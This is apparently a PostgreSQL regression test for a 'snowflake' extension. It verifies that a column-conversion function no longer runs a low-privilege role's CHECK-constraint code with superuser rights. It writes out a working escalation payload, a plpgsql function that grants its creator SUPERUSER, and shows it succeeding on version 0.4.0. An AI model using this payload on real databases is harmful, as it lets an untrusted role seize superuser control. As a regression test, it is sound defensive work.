-- snowflake_convert_column() never runs another role's code with the caller's rights
-- (issue 28 item 1). Changing a column's type runs its table's CHECK constraints as the
-- role that changes it, so a superuser converting a table referenced by a role with only
-- REFERENCES ran that role's code as superuser. The attack as the issue wrote it, first on
-- 0.4.0's function (through the current library), where it works, then on this version's,
-- which refuses, listing the table, with a HINT whose statements, run as written, convert.
SELECT current_user AS bootstrap \gset
CREATE ROLE intruder LOGIN;
-- The superuser of the issue (a role of its own, so that the output names it whoever runs the tests).
CREATE ROLE dba SUPERUSER LOGIN;
\set attack_as_superuser 'CREATE SCHEMA m AUTHORIZATION intruder; CREATE TABLE public.orders(id serial PRIMARY KEY); INSERT INTO public.orders DEFAULT VALUES; GRANT REFERENCES ON public.orders TO intruder;'
\set attack_as_intruder 'CREATE FUNCTION m.f(bigint) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN IF current_user <> \'intruder\' THEN EXECUTE \'ALTER ROLE intruder SUPERUSER\'; END IF; RETURN true; END$$; CREATE TABLE m.t(order_id int REFERENCES public.orders CHECK (m.f(order_id))); INSERT INTO m.t VALUES (1);'

-- 0.4.0
CREATE DATABASE convert_owners_040;
\c convert_owners_040 dba
CREATE EXTENSION snowflake VERSION '0.4.0';
:attack_as_superuser
\c - intruder
:attack_as_intruder
\c - dba
SELECT snowflake_convert_column('public.orders', 'id');
SELECT rolsuper AS intruder_is_superuser FROM pg_roles WHERE rolname = 'intruder';
ALTER ROLE intruder NOSUPERUSER;

-- This version.
\c contrib_regression :bootstrap
CREATE DATABASE convert_owners;
\c convert_owners dba
CREATE EXTENSION snowflake;
:attack_as_superuser
\c - intruder
:attack_as_intruder
\c - dba
SELECT snowflake_convert_column('public.orders', 'id');
\echo :SQLSTATE
SELECT rolsuper AS intruder_is_superuser FROM pg_roles WHERE rolname = 'intruder';
SELECT format_type(atttypid, atttypmod) AS orders_id_unchanged FROM pg_attribute
WHERE attrelid = 'public.orders'::regclass AND attname = 'id';

-- The HINT's statements, each run connected as the role it names.
CREATE TABLE public.hint_steps (n bigint, role text, statement text);
DO $$
DECLARE
    hint text;
BEGIN
    PERFORM snowflake_convert_column('public.orders', 'id');
EXCEPTION WHEN insufficient_privilege THEN
    GET STACKED DIAGNOSTICS hint = PG_EXCEPTION_HINT;
    INSERT INTO public.hint_steps
    SELECT s.n, s.m[1], s.m[2] FROM regexp_matches(hint, '\mas ("[^"]+"|[^ ":]+): ([^;]+;)', 'g') WITH ORDINALITY AS s(m, n);
END $$;
GRANT SELECT ON public.hint_steps TO intruder;
SELECT n, role, statement FROM public.hint_steps ORDER BY n;
\c - intruder
SELECT statement FROM public.hint_steps WHERE role = current_user ORDER BY n \gexec
\c - dba
SELECT statement FROM public.hint_steps WHERE role = current_user ORDER BY n \gexec
SELECT rolsuper AS intruder_is_superuser FROM pg_roles WHERE rolname = 'intruder';
SELECT attrelid::regclass AS rel, format_type(atttypid, atttypmod) AS type, pg_get_expr(adbin, adrelid) AS default
FROM pg_attribute LEFT JOIN pg_attrdef ON adrelid = attrelid AND adnum = attnum
WHERE (attrelid, attname) IN (('public.orders'::regclass, 'id'), ('m.t'::regclass, 'order_id')) ORDER BY attrelid::regclass::text;
INSERT INTO public.orders DEFAULT VALUES;
SELECT count(*) AS orders, count(*) FILTER (WHERE id > 1) AS snowflake_ids FROM public.orders;

-- Owning through membership of the owning role is not enough either: the table is altered
-- with the member's rights, which may be more than the owner's.
CREATE ROLE table_owners;
CREATE ROLE deployer IN ROLE table_owners;
CREATE TABLE public.invoices (id serial PRIMARY KEY);
ALTER TABLE public.invoices OWNER TO table_owners;
SET ROLE deployer;
SELECT snowflake_convert_column('public.invoices', 'id');
\echo :SQLSTATE
RESET ROLE;

\c contrib_regression :bootstrap
DROP DATABASE convert_owners_040;
DROP DATABASE convert_owners;
DROP ROLE intruder, table_owners, deployer, dba;
